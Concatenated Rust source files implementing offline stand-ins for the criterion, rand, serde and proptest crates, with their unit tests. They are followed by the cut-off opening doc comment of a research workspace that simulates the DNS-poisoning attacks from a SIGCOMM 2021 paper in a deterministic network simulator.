//! Offline stand-in for `criterion`, covering what the `bench` crate's ten
//! targets use: `Criterion::benchmark_group`, `BenchmarkGroup::sample_size`
//! / `bench_function` / `finish`, `Bencher::iter`, [`black_box`], and the
//! `criterion_group!` / `criterion_main!` macros.
//!
//! Measurement is intentionally simple: each benchmark runs one warm-up
//! iteration, then up to `sample_size` timed iterations capped by a wall
//! clock budget, and prints mean/min per iteration. No HTML reports, no
//! statistical analysis, no CLI flags (arguments such as `--bench` that
//! Cargo passes are ignored).
#![forbid(unsafe_code)]

use std::time::{Duration, Instant};

/// Total time budget per benchmark function.
const TIME_BUDGET: Duration = Duration::from_millis(500);

/// Opaque value barrier preventing the optimiser from deleting benchmark
/// bodies. `std::hint::black_box` is the stable, non-`unsafe` route.
pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// Hands the benchmark body to the harness via [`Bencher::iter`].
#[derive(Debug, Default)]
pub struct Bencher {
    samples: Vec<Duration>,
    sample_size: usize,
}

impl Bencher {
    /// Times `body`, running one warm-up iteration then up to
    /// `sample_size` timed iterations within the time budget.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut body: F) {
        black_box(body());
        let started = Instant::now();
        for _ in 0..self.sample_size {
            let t0 = Instant::now();
            black_box(body());
            self.samples.push(t0.elapsed());
            if started.elapsed() > TIME_BUDGET {
                break;
            }
        }
    }
}

fn report(label: &str, samples: &[Duration]) {
    if samples.is_empty() {
        println!("{label:<40} (no samples)");
        return;
    }
    let total: Duration = samples.iter().sum();
    let mean = total / samples.len() as u32;
    let min = samples.iter().min().expect("non-empty");
    println!("{label:<40} mean {mean:>12.3?}   min {min:>12.3?}   ({} iters)", samples.len());
}

/// Group of related benchmarks sharing configuration.
#[derive(Debug)]
pub struct BenchmarkGroup<'a> {
    name: String,
    sample_size: usize,
    _criterion: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Sets the number of timed iterations per benchmark.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n;
        self
    }

    /// Runs one named benchmark in this group.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, mut body: F) -> &mut Self {
        let mut bencher = Bencher { samples: Vec::new(), sample_size: self.sample_size };
        body(&mut bencher);
        report(&format!("{}/{}", self.name, id), &bencher.samples);
        self
    }

    /// Ends the group (upstream flushes reports here; we print eagerly).
    pub fn finish(self) {}
}

/// Benchmark harness entry point.
#[derive(Debug, Default)]
pub struct Criterion {
    sample_size: usize,
}

impl Criterion {
    /// Opens a named group of benchmarks.
    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        let sample_size = if self.sample_size == 0 { 100 } else { self.sample_size };
        BenchmarkGroup { name: name.to_string(), sample_size, _criterion: self }
    }

    /// Runs one stand-alone named benchmark.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, mut body: F) -> &mut Self {
        let mut bencher = Bencher { samples: Vec::new(), sample_size: 100 };
        body(&mut bencher);
        report(id, &bencher.samples);
        self
    }

    /// Upstream parses CLI options here; the shim ignores them.
    pub fn configure_from_args(self) -> Self {
        self
    }
}

/// Declares a benchmark group function, mirroring `criterion::criterion_group!`.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group() {
            let mut criterion = $crate::Criterion::default().configure_from_args();
            $($target(&mut criterion);)+
        }
    };
}

/// Declares the bench `main`, mirroring `criterion::criterion_main!`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn group_runs_body_and_caps_samples() {
        let mut c = Criterion::default();
        let mut runs = 0u32;
        {
            let mut group = c.benchmark_group("g");
            group.sample_size(10);
            group.bench_function("count", |b| b.iter(|| runs += 1));
            group.finish();
        }
        // 1 warm-up + up to 10 timed iterations.
        assert!((2..=11).contains(&runs), "runs={runs}");
    }

    #[test]
    fn black_box_is_identity() {
        assert_eq!(black_box(42), 42);
        assert_eq!(black_box(String::from("x")), "x");
    }
}
