//! Offline stand-in for `rand` 0.8, providing exactly the surface this
//! workspace uses: `RngCore`, the `Rng` extension trait (`gen`, `gen_range`,
//! `gen_bool`, `fill`), `SeedableRng` (including the SplitMix64-based
//! `seed_from_u64` default), and `seq::SliceRandom` (`shuffle`, `choose`).
//!
//! Integer range sampling uses the widening multiply-shift method, which is
//! deterministic and unbiased enough for a simulator; it is NOT guaranteed to
//! produce the same streams as upstream `rand`.
#![forbid(unsafe_code)]

/// Low-level source of randomness; everything else is derived from
/// [`RngCore::next_u32`] / [`RngCore::next_u64`].
pub trait RngCore {
    /// Returns the next 32 random bits.
    fn next_u32(&mut self) -> u32;

    /// Returns the next 64 random bits.
    fn next_u64(&mut self) -> u64 {
        (u64::from(self.next_u32()) << 32) | u64::from(self.next_u32())
    }

    /// Fills `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        let mut chunks = dest.chunks_exact_mut(8);
        for chunk in &mut chunks {
            chunk.copy_from_slice(&self.next_u64().to_le_bytes());
        }
        let rem = chunks.into_remainder();
        if !rem.is_empty() {
            let bytes = self.next_u64().to_le_bytes();
            rem.copy_from_slice(&bytes[..rem.len()]);
        }
    }
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u32(&mut self) -> u32 {
        (**self).next_u32()
    }

    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }

    fn fill_bytes(&mut self, dest: &mut [u8]) {
        (**self).fill_bytes(dest)
    }
}

/// Types that can be sampled uniformly by [`Rng::gen`].
pub trait Standard: Sized {
    /// Draws one uniformly distributed value.
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_int {
    ($($t:ty => $via:ident),* $(,)?) => {$(
        impl Standard for $t {
            fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
                rng.$via() as $t
            }
        }
    )*};
}

impl_standard_int!(
    u8 => next_u32, u16 => next_u32, u32 => next_u32, u64 => next_u64, usize => next_u64,
    i8 => next_u32, i16 => next_u32, i32 => next_u32, i64 => next_u64, isize => next_u64,
);

impl Standard for u128 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (u128::from(rng.next_u64()) << 64) | u128::from(rng.next_u64())
    }
}

impl Standard for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 random mantissa bits in [0, 1).
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl Standard for f32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u32() >> 8) as f32 * (1.0 / (1u32 << 24) as f32)
    }
}

/// Ranges that [`Rng::gen_range`] can sample from.
pub trait SampleRange<T> {
    /// Draws one value uniformly from the range. Panics if the range is empty.
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_sample_range_int {
    ($($t:ty),* $(,)?) => {$(
        impl SampleRange<$t> for core::ops::Range<$t> {
            fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range called with empty range");
                let span = (self.end as i128 - self.start as i128) as u128;
                let scaled = (u128::from(rng.next_u64()) * span) >> 64;
                (self.start as i128 + scaled as i128) as $t
            }
        }

        impl SampleRange<$t> for core::ops::RangeInclusive<$t> {
            fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                let (start, end) = (*self.start(), *self.end());
                assert!(start <= end, "gen_range called with empty range");
                let span = (end as i128 - start as i128) as u128 + 1;
                let scaled = (u128::from(rng.next_u64()) * span) >> 64;
                (start as i128 + scaled as i128) as $t
            }
        }
    )*};
}

impl_sample_range_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl SampleRange<f64> for core::ops::Range<f64> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        assert!(self.start < self.end, "gen_range called with empty range");
        self.start + (self.end - self.start) * f64::sample(rng)
    }
}

impl SampleRange<f64> for core::ops::RangeInclusive<f64> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        let (start, end) = (*self.start(), *self.end());
        assert!(start <= end, "gen_range called with empty range");
        start + (end - start) * f64::sample(rng)
    }
}

/// Convenience extension trait mirroring `rand::Rng`.
pub trait Rng: RngCore {
    /// Draws a uniformly distributed value of type `T`.
    fn gen<T: Standard>(&mut self) -> T
    where
        Self: Sized,
    {
        T::sample(self)
    }

    /// Draws a value uniformly from `range`.
    fn gen_range<T, Rg: SampleRange<T>>(&mut self, range: Rg) -> T
    where
        Self: Sized,
    {
        range.sample_single(self)
    }

    /// Returns `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        assert!((0.0..=1.0).contains(&p), "gen_bool called with p={p}");
        f64::sample(self) < p
    }

    /// Fills `dest` with random bytes.
    fn fill(&mut self, dest: &mut [u8])
    where
        Self: Sized,
    {
        self.fill_bytes(dest)
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Seedable deterministic generators, mirroring `rand::SeedableRng`.
pub trait SeedableRng: Sized {
    /// Fixed-size seed type (e.g. `[u8; 32]`).
    type Seed: Sized + Default + AsMut<[u8]>;

    /// Constructs the generator from a full seed.
    fn from_seed(seed: Self::Seed) -> Self;

    /// Expands a `u64` into a full seed with SplitMix64 (as upstream does).
    fn seed_from_u64(mut state: u64) -> Self {
        let mut seed = Self::Seed::default();
        for chunk in seed.as_mut().chunks_mut(8) {
            state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^= z >> 31;
            let bytes = z.to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
        Self::from_seed(seed)
    }
}

pub mod seq {
    //! Slice sampling helpers mirroring `rand::seq`.

    use super::{Rng, RngCore};

    /// Extension trait providing random slice operations.
    pub trait SliceRandom {
        /// Element type of the slice.
        type Item;

        /// Shuffles the slice in place (Fisher-Yates).
        fn shuffle<R: RngCore>(&mut self, rng: &mut R);

        /// Returns one uniformly chosen element, or `None` if empty.
        fn choose<R: RngCore>(&self, rng: &mut R) -> Option<&Self::Item>;

        /// Samples `amount` distinct elements without replacement (fewer if
        /// the slice is shorter), in random order.
        fn choose_multiple<R: RngCore>(&self, rng: &mut R, amount: usize) -> impl Iterator<Item = &Self::Item>;
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn shuffle<R: RngCore>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = rng.gen_range(0..=i);
                self.swap(i, j);
            }
        }

        fn choose<R: RngCore>(&self, rng: &mut R) -> Option<&T> {
            if self.is_empty() {
                None
            } else {
                self.get(rng.gen_range(0..self.len()))
            }
        }

        fn choose_multiple<R: RngCore>(&self, rng: &mut R, amount: usize) -> impl Iterator<Item = &T> {
            // Partial Fisher-Yates over an index vector.
            let mut indices: Vec<usize> = (0..self.len()).collect();
            let amount = amount.min(self.len());
            for i in 0..amount {
                let j = rng.gen_range(i..indices.len());
                indices.swap(i, j);
            }
            indices.truncate(amount);
            indices.into_iter().map(|i| &self[i])
        }
    }
}

/// Prelude mirroring `rand::prelude`.
pub mod prelude {
    pub use super::seq::SliceRandom;
    pub use super::{Rng, RngCore, SeedableRng};
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Counter(u64);

    impl RngCore for Counter {
        fn next_u32(&mut self) -> u32 {
            self.next_u64() as u32
        }

        fn next_u64(&mut self) -> u64 {
            // Weyl sequence through a finalizer, good enough to exercise APIs.
            self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.0;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z ^ (z >> 31)
        }
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = Counter(7);
        for _ in 0..1000 {
            let v: u16 = rng.gen_range(10..20);
            assert!((10..20).contains(&v));
            let w = rng.gen_range(5usize..=5);
            assert_eq!(w, 5);
            let f = rng.gen_range(0.25f64..0.75);
            assert!((0.25..0.75).contains(&f));
        }
    }

    #[test]
    fn gen_bool_extremes() {
        let mut rng = Counter(1);
        assert!((0..100).all(|_| !rng.gen_bool(0.0)));
        assert!((0..100).all(|_| rng.gen_bool(1.0)));
    }

    #[test]
    fn shuffle_is_a_permutation() {
        use seq::SliceRandom;
        let mut rng = Counter(42);
        let mut v: Vec<u32> = (0..50).collect();
        v.shuffle(&mut rng);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
    }

    #[test]
    fn fill_bytes_covers_remainder() {
        let mut rng = Counter(3);
        let mut buf = [0u8; 13];
        rng.fill_bytes(&mut buf);
        assert!(buf.iter().any(|&b| b != 0));
    }
}
