//! Offline stand-in for `serde`: the workspace only ever writes
//! `#[derive(Serialize, Deserialize)]` and never calls the traits, so the
//! derives expand to nothing. `attributes(serde)` keeps any `#[serde(...)]`
//! field/container attributes parseable.

use proc_macro::TokenStream;

/// No-op replacement for `serde_derive::Serialize`.
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}

/// No-op replacement for `serde_derive::Deserialize`.
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}
