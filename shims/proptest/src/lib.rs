//! Offline stand-in for `proptest`, implementing the slice of its API this
//! workspace's property tests use: the [`proptest!`] macro, `prop_assert*`
//! macros, the [`Strategy`] trait with `prop_map`, [`any`] for primitive
//! types, [`collection::vec`], [`string::string_regex`] (character classes
//! and `{m,n}` repetition only), and [`ProptestConfig`].
//!
//! Differences from upstream: failing inputs are not shrunk — the panic
//! message carries the case index and per-case seed so a failure is exactly
//! reproducible — and case seeds are derived deterministically from the test
//! name, so runs are stable across invocations.
#![forbid(unsafe_code)]

use rand::{Rng, SeedableRng};

/// The RNG handed to strategies by the runner.
pub type TestRng = rand_chacha::ChaCha20Rng;

/// Failure raised by `prop_assert!` and friends; carried in `Result` so the
/// runner (not the assertion site) reports the case context.
#[derive(Debug)]
pub struct TestCaseError(pub String);

impl std::fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// Result type of one generated test case.
pub type TestCaseResult = Result<(), TestCaseError>;

/// Runner configuration; only `cases` is honoured.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of random cases to run per test.
    pub cases: u32,
}

impl ProptestConfig {
    /// Config running `cases` random cases.
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 256 }
    }
}

/// A generator of random values (upstream's `Strategy`, minus value trees).
pub trait Strategy {
    /// Type of the generated values.
    type Value;

    /// Draws one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }
}

/// Strategy returned by [`Strategy::prop_map`].
#[derive(Debug, Clone)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;

    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

macro_rules! impl_range_strategies {
    ($($t:ty),* $(,)?) => {$(
        impl Strategy for std::ops::Range<$t> {
            type Value = $t;

            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.gen_range(self.clone())
            }
        }

        impl Strategy for std::ops::RangeInclusive<$t> {
            type Value = $t;

            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}

impl_range_strategies!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, f64);

/// Tuples of strategies generate tuples of values, as in upstream proptest.
macro_rules! impl_tuple_strategies {
    ($(($($S:ident . $idx:tt),+))*) => {$(
        impl<$($S: Strategy),+> Strategy for ($($S,)+) {
            type Value = ($($S::Value,)+);

            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.generate(rng),)+)
            }
        }
    )*};
}

impl_tuple_strategies! {
    (A.0, B.1)
    (A.0, B.1, C.2)
    (A.0, B.1, C.2, D.3)
    (A.0, B.1, C.2, D.3, E.4)
    (A.0, B.1, C.2, D.3, E.4, F.5)
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6)
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7)
}

/// String literals act as regex strategies, as in upstream proptest.
impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut TestRng) -> String {
        string::string_regex(self).unwrap_or_else(|e| panic!("invalid regex strategy {self:?}: {e:?}")).generate(rng)
    }
}

/// Types with a canonical "any value" strategy.
pub trait Arbitrary: Sized {
    /// Draws an unconstrained value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

macro_rules! impl_arbitrary {
    ($($t:ty),* $(,)?) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> Self {
                rng.gen()
            }
        }
    )*};
}

impl_arbitrary!(u8, u16, u32, u64, u128, usize, i8, i16, i32, i64, isize, bool, f32, f64);

/// Strategy returned by [`any`].
#[derive(Debug, Clone, Copy, Default)]
pub struct Any<T>(std::marker::PhantomData<T>);

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;

    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// Strategy producing any value of `T` (upstream `proptest::arbitrary::any`).
pub fn any<T: Arbitrary>() -> Any<T> {
    Any(std::marker::PhantomData)
}

pub mod collection {
    //! Collection strategies (`vec` only).

    use super::{Strategy, TestRng};
    use rand::Rng;

    /// Inclusive size bounds for generated collections.
    #[derive(Debug, Clone, Copy)]
    pub struct SizeRange {
        min: usize,
        /// Inclusive upper bound.
        max: usize,
    }

    impl From<usize> for SizeRange {
        fn from(n: usize) -> Self {
            SizeRange { min: n, max: n }
        }
    }

    impl From<std::ops::Range<usize>> for SizeRange {
        fn from(r: std::ops::Range<usize>) -> Self {
            assert!(r.start < r.end, "empty vec size range");
            SizeRange { min: r.start, max: r.end - 1 }
        }
    }

    impl From<std::ops::RangeInclusive<usize>> for SizeRange {
        fn from(r: std::ops::RangeInclusive<usize>) -> Self {
            SizeRange { min: *r.start(), max: *r.end() }
        }
    }

    /// Strategy returned by [`vec`].
    #[derive(Debug, Clone)]
    pub struct VecStrategy<S> {
        element: S,
        size: SizeRange,
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;

        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let len = rng.gen_range(self.size.min..=self.size.max);
            (0..len).map(|_| self.element.generate(rng)).collect()
        }
    }

    /// Generates `Vec`s whose length lies in `size` and whose elements come
    /// from `element`.
    pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy { element, size: size.into() }
    }
}

pub mod string {
    //! Regex-driven string strategies. Supports the subset this workspace
    //! uses: literal characters, `.`, character classes `[a-z0-9]` /
    //! `[ -~]` (ranges and singletons), and `{m}` / `{m,n}` repetition.

    use super::{Strategy, TestRng};
    use rand::Rng;

    /// Error for regex syntax outside the supported subset.
    #[derive(Debug, Clone, PartialEq, Eq)]
    pub struct Error(pub String);

    #[derive(Debug, Clone)]
    enum Atom {
        /// Fixed set of candidate characters (expanded class or literal).
        Class(Vec<char>),
    }

    #[derive(Debug, Clone)]
    struct Piece {
        atom: Atom,
        min: u32,
        max: u32,
    }

    /// Strategy returned by [`string_regex`].
    #[derive(Debug, Clone)]
    pub struct RegexGeneratorStrategy {
        pieces: Vec<Piece>,
    }

    impl Strategy for RegexGeneratorStrategy {
        type Value = String;

        fn generate(&self, rng: &mut TestRng) -> String {
            let mut out = String::new();
            for piece in &self.pieces {
                let reps = rng.gen_range(piece.min..=piece.max);
                for _ in 0..reps {
                    match &piece.atom {
                        Atom::Class(chars) => {
                            out.push(chars[rng.gen_range(0..chars.len())]);
                        }
                    }
                }
            }
            out
        }
    }

    fn parse_class(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> Result<Vec<char>, Error> {
        let mut set = Vec::new();
        loop {
            let c = chars.next().ok_or_else(|| Error("unterminated character class".into()))?;
            match c {
                ']' => {
                    if set.is_empty() {
                        return Err(Error("empty character class".into()));
                    }
                    return Ok(set);
                }
                '\\' => {
                    let escaped = chars.next().ok_or_else(|| Error("dangling escape in class".into()))?;
                    set.push(escaped);
                }
                _ => {
                    if chars.peek() == Some(&'-') {
                        let mut ahead = chars.clone();
                        ahead.next();
                        match ahead.peek() {
                            Some(&']') | None => set.push(c),
                            Some(&end) => {
                                chars.next();
                                chars.next();
                                if end < c {
                                    return Err(Error(format!("reversed range {c}-{end}")));
                                }
                                set.extend(c..=end);
                            }
                        }
                    } else {
                        set.push(c);
                    }
                }
            }
        }
    }

    fn parse_repeat(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> Result<(u32, u32), Error> {
        let mut body = String::new();
        for c in chars.by_ref() {
            if c == '}' {
                let (lo, hi) = match body.split_once(',') {
                    Some((lo, hi)) => (lo.trim().to_string(), hi.trim().to_string()),
                    None => (body.trim().to_string(), body.trim().to_string()),
                };
                let min: u32 = lo.parse().map_err(|_| Error(format!("bad repetition bound {lo:?}")))?;
                let max: u32 = hi.parse().map_err(|_| Error(format!("bad repetition bound {hi:?}")))?;
                if max < min {
                    return Err(Error(format!("reversed repetition {{{min},{max}}}")));
                }
                return Ok((min, max));
            }
            body.push(c);
        }
        Err(Error("unterminated repetition".into()))
    }

    /// Compiles `regex` into a generator strategy.
    pub fn string_regex(regex: &str) -> Result<RegexGeneratorStrategy, Error> {
        let mut pieces = Vec::new();
        let mut chars = regex.chars().peekable();
        while let Some(c) = chars.next() {
            let atom = match c {
                '[' => Atom::Class(parse_class(&mut chars)?),
                '.' => Atom::Class((' '..='~').collect()),
                '\\' => {
                    let escaped = chars.next().ok_or_else(|| Error("dangling escape".into()))?;
                    Atom::Class(vec![escaped])
                }
                '(' | ')' | '|' | '*' | '+' | '?' | '^' | '$' => {
                    return Err(Error(format!("unsupported regex syntax {c:?} in {regex:?}")));
                }
                _ => Atom::Class(vec![c]),
            };
            let (min, max) = if chars.peek() == Some(&'{') {
                chars.next();
                parse_repeat(&mut chars)?
            } else {
                (1, 1)
            };
            pieces.push(Piece { atom, min, max });
        }
        Ok(RegexGeneratorStrategy { pieces })
    }
}

/// Runs `body` against `config.cases` generated cases, panicking with the
/// case index and seed on the first failure. Called by [`proptest!`].
pub fn run_cases<F>(config: ProptestConfig, test_name: &str, mut body: F)
where
    F: FnMut(&mut TestRng) -> TestCaseResult,
{
    // FNV-1a over the test name keeps seeds distinct per test yet stable
    // across runs, so failures reproduce without a persistence file.
    let mut name_hash: u64 = 0xcbf2_9ce4_8422_2325;
    for b in test_name.bytes() {
        name_hash ^= u64::from(b);
        name_hash = name_hash.wrapping_mul(0x0000_0100_0000_01B3);
    }
    for case in 0..config.cases {
        let seed = name_hash.wrapping_add(u64::from(case).wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let mut rng = TestRng::seed_from_u64(seed);
        if let Err(e) = body(&mut rng) {
            panic!("proptest {test_name}: case {case}/{} (seed {seed:#x}) failed: {e}", config.cases);
        }
    }
}

/// Re-exports mirroring `proptest::prelude`.
pub mod prelude {
    pub use crate::{
        any, prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, proptest, Arbitrary, ProptestConfig, Strategy,
        TestCaseError, TestCaseResult,
    };
}

/// Defines property tests: a block of `fn name(arg in strategy, ...) { .. }`
/// items, optionally preceded by `#![proptest_config(..)]`.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_items! { ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_items! { ($crate::ProptestConfig::default()) $($rest)* }
    };
}

/// Internal item-by-item expansion of [`proptest!`].
#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_items {
    (($cfg:expr)) => {};
    (($cfg:expr)
     $(#[$meta:meta])*
     fn $name:ident($($arg:ident in $strategy:expr),+ $(,)?) $body:block
     $($rest:tt)*) => {
        $(#[$meta])*
        fn $name() {
            $crate::run_cases($cfg, stringify!($name), |__proptest_rng| {
                $(let $arg = $crate::Strategy::generate(&($strategy), __proptest_rng);)+
                #[allow(unreachable_code)]
                let __proptest_case = move || -> $crate::TestCaseResult {
                    $body
                    ::std::result::Result::Ok(())
                };
                __proptest_case()
            });
        }
        $crate::__proptest_items! { ($cfg) $($rest)* }
    };
}

/// Fails the current case unless `cond` holds.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, concat!("assertion failed: ", stringify!($cond)))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return ::std::result::Result::Err($crate::TestCaseError(format!($($fmt)+)));
        }
    };
}

/// Fails the current case unless `left == right`.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left == *right,
            "assertion failed: `{} == {}`\n  left: {:?}\n right: {:?}",
            stringify!($left),
            stringify!($right),
            left,
            right
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left == *right,
            "{}\n  left: {:?}\n right: {:?}",
            format!($($fmt)+),
            left,
            right
        );
    }};
}

/// Fails the current case unless `left != right`.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left != *right,
            "assertion failed: `{} != {}`\n  both: {:?}",
            stringify!($left),
            stringify!($right),
            left
        );
    }};
}

/// Skips the current case when `cond` is false. Unlike upstream, the skipped
/// case counts toward the case budget (no resampling).
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !$cond {
            return ::std::result::Result::Ok(());
        }
    };
}

#[cfg(test)]
mod tests {
    use super::prelude::*;
    use super::TestRng;
    use rand::SeedableRng;

    #[test]
    fn string_regex_respects_class_and_bounds() {
        let strat = crate::string::string_regex("[a-z0-9]{1,12}").unwrap();
        let mut rng = TestRng::seed_from_u64(1);
        for _ in 0..500 {
            let s = crate::Strategy::generate(&strat, &mut rng);
            assert!((1..=12).contains(&s.len()), "len {} out of bounds", s.len());
            assert!(s.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit()), "bad char in {s:?}");
        }
    }

    #[test]
    fn string_regex_printable_range() {
        let strat = crate::string::string_regex("[ -~]{0,100}").unwrap();
        let mut rng = TestRng::seed_from_u64(2);
        for _ in 0..200 {
            let s = crate::Strategy::generate(&strat, &mut rng);
            assert!(s.len() <= 100);
            assert!(s.chars().all(|c| (' '..='~').contains(&c)));
        }
    }

    #[test]
    fn string_regex_rejects_unsupported_syntax() {
        assert!(crate::string::string_regex("(a|b)").is_err());
        assert!(crate::string::string_regex("a*").is_err());
        assert!(crate::string::string_regex("[a-").is_err());
    }

    #[test]
    fn vec_strategy_respects_size() {
        let strat = crate::collection::vec(any::<u8>(), 3..6);
        let mut rng = TestRng::seed_from_u64(3);
        for _ in 0..300 {
            let v = crate::Strategy::generate(&strat, &mut rng);
            assert!((3..=5).contains(&v.len()));
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn macro_generates_and_asserts(x in 0u32..10, v in crate::collection::vec(any::<bool>(), 0..4)) {
            prop_assert!(x < 10);
            prop_assert!(v.len() < 4);
            prop_assert_eq!(x, x);
            prop_assert_ne!(x, x + 1);
        }

        #[test]
        fn prop_map_applies(y in (0u16..100).prop_map(|v| v * 2)) {
            prop_assert!(y % 2 == 0);
            prop_assert!(y < 200);
        }
    }
}
