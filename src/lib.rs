//! # cross-layer-attacks
//!
//! Umbrella crate of the workspace reproducing *"From IP to Transport and
//! Beyond: Cross-Layer Attacks Against Applications"* (SIGCOMM 2021). It
//! re-exports every sub-crate so examples, integration tests and downstream
//! users can depend on a single package:
//!
//! * [`netsim`] — deterministic packet-level network simulator;
//! * [`dns`] — DNS wire format, resolvers, nameservers, caches;
//! * [`bgp`] — AS-level routing, prefix hijacks, RPKI/ROV;
//! * [`attacks`] — the HijackDNS, SadDNS and FragDNS poisoning methodologies;
//! * [`apps`] — the application taxonomy and exploit behaviour (Tables 1–2);
//! * [`ca`] — the ACME-style certificate authority: issuance pipeline,
//!   multi-vantage-point domain validation, fraudulent-certificate grids;
//! * [`telemetry`] — the deterministic metrics registry, sim-time spans and
//!   flight recorder shared by every layer;
//! * [`xlayer_core`] — measurement campaigns, comparative analysis,
//!   cross-layer scenarios and countermeasure ablations (Tables 3–6,
//!   Figures 3–5).
//!
//! ```
//! use cross_layer_attacks::attacks::prelude::*;
//!
//! let (mut sim, env) = VictimEnvConfig::default().build();
